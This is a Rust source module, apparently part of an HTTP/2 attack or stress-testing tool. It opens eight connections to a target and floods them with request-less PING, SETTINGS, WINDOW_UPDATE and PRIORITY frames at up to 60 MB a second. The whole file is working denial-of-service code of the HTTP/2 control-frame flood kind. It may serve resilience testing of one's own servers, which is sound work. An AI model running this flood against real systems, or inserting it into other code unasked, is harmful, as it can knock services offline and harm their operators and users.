//! Floods of HTTP/2 frames that belong to no request and cost their sender almost nothing.

use std::io;

use super::super::attack_context::{Context, Throttle};
use super::super::frames::{Frames, INITIAL_WINDOW, PING, PRIORITY, WINDOW_UPDATE};

const BYTES_PER_SECOND: u64 = 60_000_000;
const CONNECTIONS: u64 = 8;
/// Bytes that are sent in one write.
const BLOCK: u64 = 64_000;

/// A function that appends the frame with this number to a flood.
type Flood = fn(Frames, u32) -> Frames;

/// The floods. Connection number `n` uses flood `n` modulo their count.
const FLOODS: [Flood; 4] = [
    |frames, _| frames.frame(PING, 0, 0, b"hostile!"),
    |frames, n| frames.settings(&[(INITIAL_WINDOW, 65_535 + n % 2)]),
    |frames, _| frames.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
    |frames, n| frames.frame(PRIORITY, 0, n * 2 + 1, b"\0\0\0\0\x10"),
];

pub(in super::super) fn rate() -> String {
    format!("{CONNECTIONS} connections, {} MB a second at most", BYTES_PER_SECOND / 1_000_000)
}

pub(in super::super) async fn begin(context: Context) {
    context.lanes(CONNECTIONS, CONNECTIONS, flood).await;
}

async fn flood(context: Context, lane: u64) -> io::Result<()> {
    let frame = FLOODS[(lane % FLOODS.len() as u64) as usize];
    let mut peer = context.dial().await?;
    peer.send(&Frames::opening(&[]).0).await?;
    let mut block = Frames::default();
    let mut number = 0;
    while (block.0.len() as u64) < BLOCK {
        block = frame(block, number);
        number += 1;
    }
    let per_second = BYTES_PER_SECOND / CONNECTIONS / BLOCK;
    peer.flood(Throttle::new(per_second), 1, || block.0.clone()).await
}
